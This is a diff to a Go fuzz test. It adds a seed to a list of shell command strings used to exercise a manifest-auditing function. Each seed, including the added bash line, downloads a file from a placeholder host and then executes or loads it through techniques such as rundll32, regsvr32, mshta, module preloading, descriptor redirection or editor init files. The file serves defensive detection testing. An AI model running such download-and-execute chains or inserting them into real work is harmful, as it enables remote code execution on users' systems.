@@ -317,6 +317,7 @@ var fuzzSeeds = [][]string{
 	{"cmd", "/c", `curl -o C:\t\a.dll h://x & rundll32 ,x & rundll32 C:\t\a.dll, & regsvr32 /s /i:x & regasm /x a C:\t\a.dll & mshta & cscript //b //e:js & msbuild -p:x=1 & control & installutil /U /x`},
 	{"pwsh", "-Command", "iwr h://x -OutFile a.psm1; ipmo -Name; Import-Module -RequiredVersion 1 x -Name:./a.psm1; ii -LiteralPath; Invoke-Item a.psm1 -Path"},
 	{"sh", "-c", `curl -o /t/a.js h://x; node -r; node --require --import=/t/a.js -C x -r/t/a.js s.js -r /t/a.js; bun -r; ruby -rx -I/t -r; perl -I /t -I -M-strict=x -mA::B -e 1; python3 -Wd -m; cd /t; python -m a.js; deno run --preload; tsx --loader=/t/a.js`},
+	{"bash", "-c", `curl -o /t/a h://x; exec 3</t/a 5<>/t/a 6<&3 7<&9 8<&-; sh <&3 0<&5; bash /dev/fd/6 --rcfile; bash --init-file=/t/a; source /dev/fd/7; vim -S; nvim -u /t/a; gdb --command=/t/a -ix; exec 3</x; sh <&3`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
